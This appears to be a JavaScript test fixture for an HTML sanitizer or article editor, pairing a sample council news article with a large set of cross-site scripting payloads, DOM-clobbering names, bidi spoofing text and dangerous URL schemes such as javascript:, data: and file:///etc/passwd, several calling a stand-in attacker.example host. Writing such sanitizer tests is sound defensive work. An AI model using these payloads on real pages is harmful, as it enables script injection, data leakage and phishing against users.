// Pastes by somebody who means harm. Each tries to run `trip()`, to leave the page, to ask a server for something, or to
// stand in the way of what the page is made of. ATTACKS holds markup, and is pasted as HTML and as plain text.

const host = 'https://attacker.example';

/** An article around an attack, so that it is read, marked, listed and exported, not set apart. */
export const article = (attack, linked = `${host}/a`, town = 'Norwick') => `<h1>Council ${attack} votes to dim its lights</h1>
  <p>By Ann ${attack} Weber</p>
  <p>The council of ${town} voted on Monday to switch off its lights after midnight. ${attack}</p>
  <p>“We can ${attack} see the stars again,” said mayor Clara Holt ${attack} of Norwick. She added that the town ${attack} would wait.</p>
  <h2>Who ${attack} pays</h2>
  <p>Peter Ames, a shopkeeper, said the dark would keep customers away from the harbour at night. ${attack}</p>
  <div><h3>Read also</h3><ul><li><a href="${linked}">Fishermen fear for the old ${attack} pier of Norwick</a></li>
  <li><a href="${linked}">Ferry line gets a new owner at last</a></li></ul></div>`;

export const ATTACKS = {
  script: '<script>trip()</script><script src="https://attacker.example/x.js"></script><SCRIPT/x>trip()</SCRIPT>',
  'script in halves': '<scr<script>ipt>trip()</scr</script>ipt><script\n>trip()</script\n><script>/*</script>*/trip()</script>',
  handlers: '<img src=x onerror=trip()><b onmouseover="trip()" onfocus=trip() tabindex=0 autofocus>x</b><details open ontoggle=trip()>x</details>',
  'handlers between odd marks': '<img/src=x\u000conerror\u000c=\u000ctrip()><img src="x`"onerror=trip()><a/onclick="trip()"href=#>x</a>',
  svg: '<svg onload=trip()><script>trip()</script><animate onbegin=trip() attributeName=x dur=1s /><a xlink:href="javascript:trip()"><text>x</text></a></svg>',
  math: '<math><mtext><table><mglyph><style><img src=x onerror=trip()></style></mglyph></table></mtext><maction actiontype="statusline#javascript:trip()" xlink:href="javascript:trip()">x</maction></math>',
  'parser confusion': '<noscript><p title="</noscript><img src=x onerror=trip()>"></noscript><textarea><img src=x onerror=trip()></textarea><![CDATA[<img src=x onerror=trip()>]]><!--><img src=x onerror=trip()>--><template><img src=x onerror=trip()></template>',
  style: '<style>@import "https://attacker.example/s.css";body{display:none;background:url(https://attacker.example/b)}</style><p style="background:url(https://attacker.example/c);position:fixed;inset:0">x</p>',
  'base, refresh, link': '<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/l.css"><link rel="prefetch" href="https://attacker.example/p">',
  frames: '<iframe src="javascript:parent.trip()" srcdoc="<script>parent.trip()</script>"></iframe><object data="javascript:trip()"></object><embed src="https://attacker.example/e"><form action="https://attacker.example/f"><button formaction="javascript:trip()">x</button></form>',
  media: '<img src="https://attacker.example/i" srcset="https://attacker.example/j 2x"><video src="https://attacker.example/v" onerror=trip() autoplay></video><audio src=x onerror=trip()></audio><picture><source srcset="https://attacker.example/k"></picture>',
  'clobbering names': '<form id="document"><input name="body"></form><img name="getElementById"><a id="window"></a><a id="field"></a><div id="shell"></div><div id="main" class="quote-card">x</div><a id="__proto__" name="constructor"></a><input id="link" value="x">',
  'prototype names': '__proto__ constructor toString hasOwnProperty valueOf “__proto__ is here,” said __proto__ Constructor.',
  'turned writing': 'moor \u202egnp.exe\u202c \u2066x\u2069 \u202dabc \u200f\u061c Аnn Wеber раypal.com xn--80ak6aa92e.com',
  'quotation marks and braces': '"\'`${trip()}{{constructor.constructor("trip()")()}}[[x]]<%= trip() %>\\u003cscript\\u003etrip()\\u003c/script\\u003e&lt;script&gt;trip()&lt;/script&gt;',
  'ends of containers': '</title></style></textarea></script></article></main></body></html>]]>--><script>trip()</script>',
};

/** Addresses that lead nowhere one wants to be led. */
export const ADDRESSES = [
  'javascript:trip()', 'JaVaScRiPt:trip()', ' javascript:trip()', 'java\tscript:trip()', 'java\nscript:trip()', '\u0001javascript:trip()',
  'javascript&colon;trip()', '&#106;avascript:trip()', '&#x6A;&#x61;vascript:trip()', 'javascript\u00ad:trip()', 'ｊavascript:trip()',
  'data:text/html,<script>trip()</script>', 'data:text/html;base64,PHNjcmlwdD50cmlwKCk8L3NjcmlwdD4=', 'vbscript:trip()', 'blob:null/x',
  'file:///etc/passwd', 'view-source:https://attacker.example/', 'feed:javascript:trip()', 'about:blank', '//attacker.example/', 'https:javascript:trip()',
  'jar:https://attacker.example!/x', 'filesystem:https://attacker.example/x', 'ms-word:ofe|u|https://attacker.example', 'tel:+1', 'intent://x',
];
